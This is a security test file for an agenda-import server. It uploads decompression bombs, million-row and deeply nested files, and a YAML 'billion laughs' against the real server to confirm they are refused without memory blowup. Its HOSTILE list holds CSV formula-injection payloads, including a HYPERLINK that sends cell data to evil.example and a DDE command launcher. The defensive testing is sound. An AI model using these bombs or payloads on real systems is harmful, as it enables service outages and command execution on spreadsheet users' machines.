import { readFileSync } from 'node:fs';
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/agenda-io/csv';
import { IMPORT_LIMITS } from '../../shared/agenda-io/import-limits';
import type { ImportResponse } from '../../shared/agenda-io/import-types';
import type { ApiError } from '../../shared/contract/errors';
import { apiClient } from '../helpers/api-client';
import { ROOT, startServer, type StartedServer } from '../helpers/server-process';
import { AGENDA_ROWS, SHEET_HEAD, agendaSheet, repeatedPart, sheetRow, workbookParts, zip } from '../helpers/zip-parts';

/**
 * Issue 14, points 1, 2, 5 and 9: each attack an agenda file can carry, replayed against the real
 * server. Every one is refused with a clear problem or held (read safely), while the server's
 * memory (VmRSS of its process) stays under 300 MB and health keeps answering. Each test's name
 * starts with its id in docs/security.md ("Attack → result"). `npm run test:soak` (ROSTRUM_SOAK=1)
 * replays the heavier forms: gibibyte images, 300 MB of whitespace, a million rows.
 */
const SOAK = process.env['ROSTRUM_SOAK'] === '1';
const MiB = 1024 * 1024;
const RSS_LIMIT = 300 * MiB;
const HEALTH_LIMIT_MS = 100;

type Answer = ImportResponse & { error?: ApiError };

let server: StartedServer;
let maxRss = 0;
let sampler: NodeJS.Timeout;
const rss = () => Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${server.process.pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;

beforeAll(async () => {
  server = await startServer();
  sampler = setInterval(() => {
    maxRss = Math.max(maxRss, rss());
  }, 10);
});
afterAll(async () => {
  clearInterval(sampler);
  console.info(`import bombs: the server's VmRSS peaked at ${Math.round(maxRss / MiB)} MB (limit ${RSS_LIMIT / MiB} MB)`);
  await server?.stop();
});

/** Probes health from another process (tests/helpers/health-prober.mjs) until `stop`: each probe's time. */
async function healthProber(): Promise<{ stop: () => Promise<number[]> }> {
  const proc = spawn(process.execPath, [join(ROOT, 'tests', 'helpers', 'health-prober.mjs'), server.url], { stdio: ['pipe', 'pipe', 'inherit'] });
  let out = '';
  proc.stdout!.on('data', (c: Buffer) => {
    out += c.toString();
  });
  await new Promise<void>((resolve, reject) => {
    proc.stdout!.on('data', () => out.startsWith('ready\n') && resolve());
    proc.once('exit', (code) => reject(new Error(`health prober exited (${code}): ${out}`)));
  });
  return {
    stop: async () => {
      const exited = new Promise((r) => proc.once('exit', r));
      proc.stdin!.end('stop\n');
      await exited;
      return JSON.parse(out.slice('ready\n'.length)) as number[];
    },
  };
}

/**
 * Uploads a file while health is probed every 10 ms from another process, until the answer: the
 * answer, its size on the wire, and every probe's time. The server's RSS is sampled throughout.
 */
async function attack(body: Uint8Array | string, query: string): Promise<{ status: number; body: Answer; bytes: number; health: number[] }> {
  const prober = await healthProber();
  let health: number[] = [];
  try {
    const res = await fetch(`${server.url}/api/v1/agenda/import?${query}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${server.tokens.control}` },
      body,
    });
    const text = await res.text();
    health = await prober.stop();
    return { status: res.status, body: JSON.parse(text) as Answer, bytes: text.length, health };
  } finally {
    if (health.length === 0) await prober.stop().catch(() => []);
  }
}

/** The checks every attack ends with: state untouched (unless said), memory bounded, health prompt. */
async function held(result: { health: number[] }, before: { revision: number }, changed = false): Promise<void> {
  const after = await apiClient(server.url, server.tokens.control).state();
  if (!changed) expect(after.revision).toBe(before.revision);
  expect(maxRss, `server RSS peaked at ${Math.round(maxRss / MiB)} MB`).toBeLessThan(RSS_LIMIT);
  // Health answers within 100 ms while the file is read (before the fix: not at all for seconds).
  // On a loaded two-core machine (other suites running) one probe in ten may be late, none by much.
  const took = `health took ${result.health.map((t) => t.toFixed(0)).join(', ')} ms`;
  expect(result.health.filter((t) => t >= HEALTH_LIMIT_MS).length, took).toBeLessThanOrEqual(Math.max(1, Math.floor(result.health.length / 10)));
  expect(Math.max(...result.health), took).toBeLessThan(5 * HEALTH_LIMIT_MS);
}

const state = () => apiClient(server.url, server.tokens.control).state();
const kinds = (a: Answer) => a.errors.map((e) => e.kind);

describe('spreadsheet bombs (issue 14.1)', () => {
  it('import-xlsx-media-bomb: images of a gibibyte each are never unpacked; the agenda imports', { timeout: 120_000 }, async () => {
    const imageBytes = SOAK ? 1024 * MiB : 256 * MiB;
    const zeros = Buffer.alloc(MiB);
    const image = await repeatedPart('xl/media/image1.png', '', zeros, imageBytes / MiB, '');
    const parts = [...workbookParts(agendaSheet()), image, { ...image, name: 'xl/media/image2.png' }, { ...image, name: 'xl/media/image3.png' }];
    const file = zip(parts);
    expect(file.length).toBeLessThan(5 * MiB);
    const before = await state();
    const result = await attack(file, 'format=xlsx&apply=true');
    expect(result.status).toBe(200);
    expect(result.body).toMatchObject({ ok: true, applied: true, summary: { sessions: 1, items: 2 } });
    await held(result, before, true);
  });

  it('import-xlsx-whitespace-sheet: a sheet that unpacks to hundreds of MB of whitespace is refused at the cap', { timeout: 120_000 }, async () => {
    const sheet = await repeatedPart('xl/worksheets/sheet1.xml', `${SHEET_HEAD}<sheetData>${sheetRow(1, AGENDA_ROWS[0]!)}`, ' '.repeat(1024), SOAK ? 300 * 1024 : 64 * 1024, '</sheetData></worksheet>');
    const before = await state();
    const result = await attack(zip(workbookParts(sheet)), 'format=xlsx');
    expect(result.status).toBe(200);
    expect(kinds(result.body)).toEqual(['over-limit']);
    expect(result.body.errors[0]!.message).toMatch(/unpacks to more than 16 MiB/);
    await held(result, before);
  });

  it('import-xlsx-million-rows: a sheet of a million rows is refused once it passes the row limit, before its cells are read', { timeout: 120_000 }, async () => {
    const rows = SOAK ? 1_000_001 : 200_000;
    const sheet = await repeatedPart('xl/worksheets/sheet1.xml', `${SHEET_HEAD}<sheetData>${sheetRow(1, AGENDA_ROWS[0]!)}`, sheetRow(2, ['S', '09:00', '10:00', 'x', '5', 'en']).replace(' r="2"', ''), rows, '</sheetData></worksheet>');
    const before = await state();
    const result = await attack(zip(workbookParts(sheet)), 'format=xlsx');
    expect(kinds(result.body)).toEqual(['over-limit']);
    expect(result.body.errors[0]!.message).toContain(`at most ${IMPORT_LIMITS.rows.toLocaleString('en')} are read`);
    await held(result, before);
  });

  it('import-xlsx-dimension-rows: a sheet that declares a million rows is refused up front', async () => {
    const sheet = await repeatedPart('xl/worksheets/sheet1.xml', `${SHEET_HEAD}<dimension ref="A1:F1000001"/><sheetData>`, sheetRow(1, AGENDA_ROWS[0]!), 1, '</sheetData></worksheet>');
    const before = await state();
    const result = await attack(zip(workbookParts(sheet)), 'format=xlsx');
    expect(result.body.errors.map((e) => e.message)).toEqual([`the sheet has 1,000,001 rows; at most ${IMPORT_LIMITS.rows.toLocaleString('en')} are read (an agenda is far shorter)`]);
    await held(result, before);
  });

  it('import-xlsx-regex-traps: XML that makes a regex rescan (80,000 unclosed cells, a 500 KB tag) is read in linear time', async () => {
    const unclosed = await repeatedPart('xl/worksheets/sheet1.xml', `${SHEET_HEAD}<sheetData>${sheetRow(1, AGENDA_ROWS[0]!)}<row r="2">`, '<c r="A2">x', 80_000, '</row></sheetData></worksheet>');
    const longTag = await repeatedPart('xl/worksheets/sheet1.xml', `${SHEET_HEAD}<sheetData>${sheetRow(1, AGENDA_ROWS[0]!)}<row r="2"><c `, 'a', 500_000, '/></row></sheetData></worksheet>');
    for (const [sheet, kinds_] of [[unclosed, [] as string[]], [longTag, ['over-limit']]] as const) {
      const before = await state();
      const result = await attack(zip(workbookParts(sheet)), 'format=xlsx');
      // Before, the worker ran out of time on these (a 10 s refusal, "took longer than").
      expect(result.body.errors.map((e) => e.message).join(' ')).not.toMatch(/took longer than/);
      expect(kinds(result.body).filter((k) => k !== 'required' && k !== 'missing-column')).toEqual(kinds_);
      await held(result, before);
    }
  });

  it('import-csv-million-rows: a 5 MB CSV of hundreds of thousands of rows is refused up front', async () => {
    const csv = `session,title,duration\n${'S,T,fifteen\n'.repeat(403_290)}`;
    expect(csv.length).toBeLessThan(5 * MiB);
    const before = await state();
    const result = await attack(csv, 'format=csv');
    expect(kinds(result.body)).toEqual(['over-limit']);
    expect(result.bytes).toBeLessThan(10_000);
    await held(result, before);
  });

  it('import-json-million-items: a JSON agenda with a million items is refused at once, not checked item by item', async () => {
    const json = `{"sessions":[{"id":"s","title":"S","plannedStart":"09:00","plannedEnd":"10:00","items":[${Array.from({ length: 1_000_000 }, () => '{}').join(',')}]}]}`;
    const before = await state();
    const result = await attack(json, 'format=json');
    expect(kinds(result.body)).toEqual(['over-limit']);
    expect(result.body.errors[0]!.column).toBe('sessions.0.items');
    await held(result, before);
  });
});

describe('error flood (issue 14.2)', () => {
  it('import-csv-error-flood: thousands of bad rows answer 100 errors and "and N more", in a small answer', async () => {
    const bad = IMPORT_LIMITS.rows - 1;
    const csv = `session,session_start,title,duration\nS,09:00,T,fifteen\n${'S,,T,fifteen\n'.repeat(bad - 1)}`;
    const before = await state();
    const result = await attack(csv, 'format=csv');
    expect(result.body.errors).toHaveLength(IMPORT_LIMITS.problems + 1);
    const last = result.body.errors.at(-1)!;
    // Every row has its bad duration (and the later ones no start): thousands more, counted.
    expect(last.kind).toBe('more-problems');
    expect(Number(last.value)).toBeGreaterThanOrEqual(bad - IMPORT_LIMITS.problems);
    expect(last.message).toBe(`and ${Number(last.value).toLocaleString('en')} more`);
    expect(result.body.warnings.length).toBeLessThanOrEqual(IMPORT_LIMITS.problems + 1);
    expect(result.bytes).toBeLessThan(200_000);
    await held(result, before);
    // Applied, the refusal's message counts them all, not just those listed.
    const applied = await attack(csv, 'format=csv&apply=true');
    expect(applied.status).toBe(400);
    expect(applied.body.error!.message).toBe(`${result.body.errors[0]!.message} (and ${(Number(last.value) + IMPORT_LIMITS.problems - 1).toLocaleString('en')} more)`);
    await held(applied, before);
  });
});

describe('text formats (issue 14.9)', () => {
  it('import-yaml-alias-bomb: a "billion laughs" YAML is a file-unreadable refusal, not a 500', async () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i += 1) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array.from({ length: 10 }, () => `*${String.fromCharCode(96 + i)}`).join(',')}]`);
    const before = await state();
    const result = await attack(levels.join('\n'), 'format=yaml&apply=true');
    expect(result.status).toBe(400);
    expect(result.body.error!.code).toBe('invalid');
    expect(kinds(result.body)).toEqual(['file-unreadable']);
    expect(result.body.errors[0]!.message).toMatch(/aliases/);
    await held(result, before);
  });

  it('import-yaml-deep: YAML nested thousands deep is refused by its depth, not with a stack overflow', async () => {
    const flow = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const block = Array.from({ length: 2_000 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n');
    for (const yaml of [flow, block]) {
      const before = await state();
      const result = await attack(yaml, 'format=yaml');
      expect(kinds(result.body)).toEqual(['over-limit']);
      expect(result.body.errors[0]!.message).toContain(`more than ${IMPORT_LIMITS.depth} levels deep`);
      expect(result.body.errors[0]!.message).not.toMatch(/call stack/);
      await held(result, before);
    }
  });

  it('import-json-deep: JSON nested a million deep is refused by its depth', async () => {
    const before = await state();
    const result = await attack(`${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`, 'format=json');
    expect(kinds(result.body)).toEqual(['over-limit']);
    expect(result.body.errors[0]!.message).not.toMatch(/call stack/);
    await held(result, before);
  });

  it('import-utf16-no-bom: a UTF-16 CSV without a byte-order mark is recognised and read', async () => {
    const csv = 'session,session_start,session_end,title,duration\r\nOpening,09:00,10:00,Welcome,10\r\n';
    const before = await state();
    const result = await attack(Buffer.from(csv, 'utf16le'), 'format=csv');
    expect(result.body.errors).toEqual([]);
    expect(result.body.agenda!.sessions[0]!.items[0]!.title).toBe('Welcome');
    await held(result, before);
  });

  it('import-binary-as-text: a file with zero bytes that is not UTF-16 is refused as not a text file', async () => {
    const before = await state();
    const result = await attack(Buffer.from([0x73, 0x65, 0, 0, 0, 0x73, 0x69, 0x6f, 0, 0x6e, 0x2c]), 'format=csv');
    expect(kinds(result.body)).toEqual(['file-unreadable']);
    expect(result.body.errors[0]!.message).toContain('not a text file');
    await held(result, before);
  });
});

describe('formula cells in CSV files (issue 14.5)', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1', '@SUM(1)', '+1+1', "=cmd|' /C calc'!A0", '-2+3', '＝1+1'];
  const records = async (path: string) => {
    const res = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${server.tokens.control}` } });
    const parsed = parseCsv(await res.text());
    if (!parsed.ok) throw new Error('unreadable CSV');
    const [header, ...rows] = parsed.records.map((r) => r.fields);
    return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
  };

  it('export-csv-formula, report-csv-formula: hostile titles and names are written with a leading \', and re-import equal', async () => {
    const csv = [
      'session,session_start,session_end,title,speaker,duration,language',
      ...HOSTILE.map((t, i) => `${i === 0 ? '=Session' : ''},${i === 0 ? '09:00' : ''},${i === 0 ? '12:00' : ''},"${t.replace(/"/g, '""')}","${t.replace(/"/g, '""')}",10,en`),
    ].join('\r\n');
    const applied = await attack(csv, 'format=csv&apply=true&confirm=running');
    expect(applied.body.errors).toEqual([]);
    const titles = applied.body.agenda!.sessions[0]!.items.map((i) => i.title);
    expect(titles).toEqual(HOSTILE);

    // The agenda export: every hostile cell starts with ' ; importing the export gives the same agenda.
    const exported = await records('/api/v1/agenda/export?format=csv');
    for (const row of exported) {
      expect(row['title']!.startsWith("'"), row['title']).toBe(true);
      expect(row['speaker']!.startsWith("'"), row['speaker']).toBe(true);
    }
    expect(exported[0]!['session']).toBe("'=Session");
    const file = await fetch(`${server.url}/api/v1/agenda/export?format=csv`, { headers: { authorization: `Bearer ${server.tokens.control}` } });
    const again = await attack(new Uint8Array(await file.arrayBuffer()), 'format=csv');
    expect(again.body.errors).toEqual([]);
    expect(again.body.agenda).toEqual((await state()).agenda);

    // The report: titles and names neutralised; the signed figures (+1:30, -0:09) kept as they are.
    const control = apiClient(server.url, server.tokens.control);
    const first = (await state()).agenda.sessions[0]!.items[0]!.id;
    expect((await control.command({ type: 'start', expectedItemId: first })).status).toBe(200);
    expect((await control.command({ type: 'next', expectedItemId: first })).status).toBe(200);
    const report = await records('/api/v1/report?format=csv');
    const items = report.filter((r) => r['row_type'] === 'item');
    expect(items.map((r) => r['title'])).toEqual(HOSTILE.map((t) => `'${t}`));
    expect(items[0]!['over_under']).toMatch(/^-\d+:\d\d$/);
    expect(report.find((r) => r['row_type'] === 'session-total')!['session']).toBe("'=Session");
  });
});
